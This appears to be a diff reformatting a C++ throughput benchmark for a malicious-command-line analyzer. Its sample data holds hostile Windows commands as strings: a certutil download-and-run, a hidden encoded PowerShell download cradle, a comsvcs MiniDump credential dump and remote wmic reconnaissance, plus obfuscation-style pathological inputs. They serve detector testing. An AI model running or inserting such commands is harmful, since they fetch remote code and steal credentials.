@@ -1,7 +1,7 @@
 // Command-line analysis throughput (SPEC §12): typical ~200-character lines per second on one
 // thread, and the time of each pathological line. Prints figures; asserts nothing.
-#include "cmdlinetestdata.h"
 #include "cmdline/commandlineanalyzer.h"
+#include "cmdlinetestdata.h"
 
 #include <QCoreApplication>
 #include <QElapsedTimer>
@@ -38,16 +38,27 @@ QString repeat(const QString &unit, qsizetype times)
 QStringList typicalLines()
 {
     return {
-        QStringLiteral("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=7"),
-        QStringLiteral("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule && C:\\Windows\\System32\\RuntimeBroker.exe -Embedding && \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile"),
-        QStringLiteral("powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\Agent\\scripts\\collect-inventory.ps1\" -OutputPath C:\\ProgramData\\Contoso\\inventory.json -Verbose"),
-        QStringLiteral("msiexec /i \"\\\\fileserver01\\deploy\\packages\\AcroRdrDC2300620360_en_US.msi\" /qn /norestart TRANSFORMS=\"\\\\fileserver01\\deploy\\acro.mst\" ALLUSERS=1 REBOOT=ReallySuppress"),
-        QStringLiteral("certutil.exe -urlcache -split -f http://203.0.113.50/files/update-service-x64.exe C:\\Users\\Public\\Libraries\\update-service.exe && C:\\Users\\Public\\Libraries\\update-service.exe"),
-        QStringLiteral("cmd.exe /c \"schtasks /create /tn \\\"Contoso Update\\\" /tr \\\"C:\\Program Files\\Contoso\\update.exe /silent\\\" /sc daily /st 03:00 /ru SYSTEM /f\" > C:\\Logs\\task.log 2>&1"),
-        QStringLiteral("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full && del C:\\Windows\\Temp\\dbg.dmp && echo done > C:\\Windows\\Temp\\status.txt"),
-        QStringLiteral("powershell -nop -w hidden -enc ") + utf16Base64(QStringLiteral("IEX (New-Object Net.WebClient).DownloadString('http://0xB9DC652A:8080/a')")),
-        QStringLiteral("wmic /node:10.20.30.40 /user:CORP\\svc_backup process call create \"cmd.exe /c net user /domain > C:\\Windows\\Temp\\u.txt & whoami /all >> C:\\Windows\\Temp\\u.txt\""),
-        QStringLiteral("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle /profile \"Outlook\" /select \"outlook:Inbox\" /c ipm.note /m \"someone@example.com\" /a \"C:\\Users\\jdoe\\Documents\\report.pdf\""),
+        QStringLiteral(
+            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=7"),
+        QStringLiteral(
+            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule && C:\\Windows\\System32\\RuntimeBroker.exe -Embedding && \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile"),
+        QStringLiteral(
+            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\Agent\\scripts\\collect-inventory.ps1\" -OutputPath C:\\ProgramData\\Contoso\\inventory.json -Verbose"),
+        QStringLiteral(
+            "msiexec /i \"\\\\fileserver01\\deploy\\packages\\AcroRdrDC2300620360_en_US.msi\" /qn /norestart TRANSFORMS=\"\\\\fileserver01\\deploy\\acro.mst\" ALLUSERS=1 REBOOT=ReallySuppress"),
+        QStringLiteral(
+            "certutil.exe -urlcache -split -f http://203.0.113.50/files/update-service-x64.exe C:\\Users\\Public\\Libraries\\update-service.exe && C:\\Users\\Public\\Libraries\\update-service.exe"),
+        QStringLiteral(
+            "cmd.exe /c \"schtasks /create /tn \\\"Contoso Update\\\" /tr \\\"C:\\Program Files\\Contoso\\update.exe /silent\\\" /sc daily /st 03:00 /ru SYSTEM /f\" > C:\\Logs\\task.log 2>&1"),
+        QStringLiteral(
+            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full && del C:\\Windows\\Temp\\dbg.dmp && echo done > C:\\Windows\\Temp\\status.txt"),
+        QStringLiteral("powershell -nop -w hidden -enc ") +
+            utf16Base64(QStringLiteral(
+                "IEX (New-Object Net.WebClient).DownloadString('http://0xB9DC652A:8080/a')")),
+        QStringLiteral(
+            "wmic /node:10.20.30.40 /user:CORP\\svc_backup process call create \"cmd.exe /c net user /domain > C:\\Windows\\Temp\\u.txt & whoami /all >> C:\\Windows\\Temp\\u.txt\""),
+        QStringLiteral(
+            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle /profile \"Outlook\" /select \"outlook:Inbox\" /c ipm.note /m \"someone@example.com\" /a \"C:\\Users\\jdoe\\Documents\\report.pdf\""),
     };
 }
 
@@ -64,9 +75,9 @@ void pathological(const CommandLineAnalyzer &analyzer, const char *name, const Q
     const AnalysisResult r = analyzer.analyze(line);
     const double cpuMs = (threadCpuSeconds() - cpu0) * 1e3;
     const double ms = double(t.nsecsElapsed()) / 1e6;
-    std::printf("  %-42s %9.1f ms wall %9.1f ms cpu  (%lld chars, %lld layers, verdict %s)\n", name, ms, cpuMs,
-                static_cast<long long>(line.size()), static_cast<long long>(r.layers.size()),
-                qPrintable(r.verdict));
+    std::printf("  %-42s %9.1f ms wall %9.1f ms cpu  (%lld chars, %lld layers, verdict %s)\n", name,
+                ms, cpuMs, static_cast<long long>(line.size()),
+                static_cast<long long>(r.layers.size()), qPrintable(r.verdict));
 }
 
 // "--write-jsonl FILE [N]": the typical mix as N JSON-string lines, the input of
@@ -93,7 +104,8 @@ int main(int argc, char *argv[])
 {
     QCoreApplication app(argc, argv);
     if (argc > 2 && QByteArray(argv[1]) == "--write-jsonl")
-        return writeJsonLines(QString::fromLocal8Bit(argv[2]), argc > 3 ? QByteArray(argv[3]).toLongLong() : 200000);
+        return writeJsonLines(QString::fromLocal8Bit(argv[2]),
+                              argc > 3 ? QByteArray(argv[3]).toLongLong() : 200000);
     const CommandLineAnalyzer analyzer;
     if (!analyzer.loadError().isEmpty()) {
         std::fprintf(stderr, "knowledge: %s\n", qPrintable(analyzer.loadError()));
@@ -120,10 +132,12 @@ int main(int argc, char *argv[])
     }
     const double secs = double(t.nsecsElapsed()) / 1e9;
     const double cpuSecs = threadCpuSeconds() - cpu0;
-    std::printf("Typical lines (avg %lld chars, mix of %lld): %lld analysed in %.2f s = %.0f lines/s on one "
-                "thread; %.2f s CPU = %.0f lines per CPU-second (%d malicious verdicts)\n",
-                static_cast<long long>(chars / lines.size()), static_cast<long long>(lines.size()),
-                static_cast<long long>(analysed), secs, analysed / secs, cpuSecs, analysed / cpuSecs, malicious);
+    std::printf(
+        "Typical lines (avg %lld chars, mix of %lld): %lld analysed in %.2f s = %.0f lines/s on one "
+        "thread; %.2f s CPU = %.0f lines per CPU-second (%d malicious verdicts)\n",
+        static_cast<long long>(chars / lines.size()), static_cast<long long>(lines.size()),
+        static_cast<long long>(analysed), secs, analysed / secs, cpuSecs, analysed / cpuSecs,
+        malicious);
     if (argc > 2 && QByteArray(argv[2]) == "--typical-only")
         return 0;
     if (argc > 3 && QByteArray(argv[2]) == "--only")
@@ -134,7 +148,8 @@ int main(int argc, char *argv[])
     const char *alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     for (int i = 0; i < 1024 * 1024; ++i)
         b64 += QLatin1Char(alphabet[(quint64(i) * 7919u + quint64(i) / 13u) % 64u]);
-    pathological(analyzer, "1 MB base64-looking token after -enc", QStringLiteral("powershell -enc ") + b64);
+    pathological(analyzer, "1 MB base64-looking token after -enc",
+                 QStringLiteral("powershell -enc ") + b64);
     QString b64x5 = repeat(b64, 5);
     pathological(analyzer, "5 MB base64-looking token", QStringLiteral("cmd /c echo ") + b64x5);
     QString nested = QStringLiteral("Write-Output innermost");
@@ -142,26 +157,36 @@ int main(int argc, char *argv[])
         nested = QStringLiteral("powershell -enc ") + utf16Base64(nested);
     pathological(analyzer, "-enc nested up to 2 MB", nested);
     pathological(analyzer, "100k-item [char[]] array",
-                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 100000) + QStringLiteral("66)"));
+                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 100000) +
+                     QStringLiteral("66)"));
     pathological(analyzer, "200k-item [char[]] array",
-                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 200000) + QStringLiteral("66)"));
-    pathological(analyzer, "100k [char]N+ casts", repeat(QStringLiteral("[char]65+"), 100000) + QStringLiteral("[char]66"));
-    pathological(analyzer, "100,000 carets", QStringLiteral("c") + repeat(QStringLiteral("^"), 100000) + QStringLiteral("md"));
+                 QStringLiteral("-join [char[]](") + repeat(QStringLiteral("65,"), 200000) +
+                     QStringLiteral("66)"));
+    pathological(analyzer, "100k [char]N+ casts",
+                 repeat(QStringLiteral("[char]65+"), 100000) + QStringLiteral("[char]66"));
+    pathological(analyzer, "100,000 carets",
+                 QStringLiteral("c") + repeat(QStringLiteral("^"), 100000) + QStringLiteral("md"));
     pathological(analyzer, "1M double quotes", repeat(QStringLiteral("\""), 1000000));
     pathological(analyzer, "10 MB of 'A'", repeat(QStringLiteral("A"), 10 * 1024 * 1024));
-    pathological(analyzer, "100k backtick-escaped letters", repeat(QStringLiteral("I`E`X "), 100000));
+    pathological(analyzer, "100k backtick-escaped letters",
+                 repeat(QStringLiteral("I`E`X "), 100000));
     pathological(analyzer, "50k set/call variables",
-                 QStringLiteral("cmd /c \"") + repeat(QStringLiteral("set a=b&&call %a%%a%&&"), 50000) + QStringLiteral("\""));
+                 QStringLiteral("cmd /c \"") +
+                     repeat(QStringLiteral("set a=b&&call %a%%a%&&"), 50000) +
+                     QStringLiteral("\""));
     // Invoke-Obfuscation launchers: whitespace data that decodes to NUL, and a special-character
     // script whose evaluation runs 100k increments (both must give no layer, quickly).
     pathological(analyzer, "1 MB quoted spaces/tabs (NUL codes)",
-                 QStringLiteral("'") + repeat(QStringLiteral(" \t\t"), 350000) + QStringLiteral(" ' | iex"));
+                 QStringLiteral("'") + repeat(QStringLiteral(" \t\t"), 350000) +
+                     QStringLiteral(" ' | iex"));
     pathological(analyzer, "1 MB quoted spaces/tabs (bad runs)",
-                 QStringLiteral("\"") + repeat(QStringLiteral("            \t"), 80000) + QStringLiteral("\""));
+                 QStringLiteral("\"") + repeat(QStringLiteral("            \t"), 80000) +
+                     QStringLiteral("\""));
     pathological(analyzer, "100k ++${ } increments",
-                 QStringLiteral("${ }=+$();${;}=${ };${+}=${ };") + repeat(QStringLiteral("++${ };"), 100000)
-                     + QStringLiteral("\"${ }\"|&${;}"));
+                 QStringLiteral("${ }=+$();${;}=${ };${+}=${ };") +
+                     repeat(QStringLiteral("++${ };"), 100000) + QStringLiteral("\"${ }\"|&${;}"));
     pathological(analyzer, "480k ${;} tokens (1.9 MB)",
-                 QStringLiteral("${;}=+$();") + repeat(QStringLiteral("${;}"), 480000) + QStringLiteral("\"a\""));
+                 QStringLiteral("${;}=+$();") + repeat(QStringLiteral("${;}"), 480000) +
+                     QStringLiteral("\"a\""));
     return 0;
 }
